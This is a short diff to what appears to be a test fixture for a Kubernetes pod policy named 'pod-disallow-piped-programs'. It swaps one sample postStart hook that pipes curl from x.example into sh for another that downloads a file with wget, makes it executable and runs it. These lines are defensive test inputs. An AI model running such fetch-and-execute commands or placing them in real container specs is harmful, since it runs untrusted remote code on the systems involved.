@@ -114,7 +114,7 @@ CONTAINERS = (
         "a program from the network",
         ("pod-disallow-piped-programs",),
         put(
-            ["sh", "-c", "curl http://x.example/i | sh"],
+            ["sh", "-c", "wget -qO /tmp/x https://x.example/i && chmod +x /tmp/x && /tmp/x"],
             "lifecycle",
             "postStart",
             "exec",
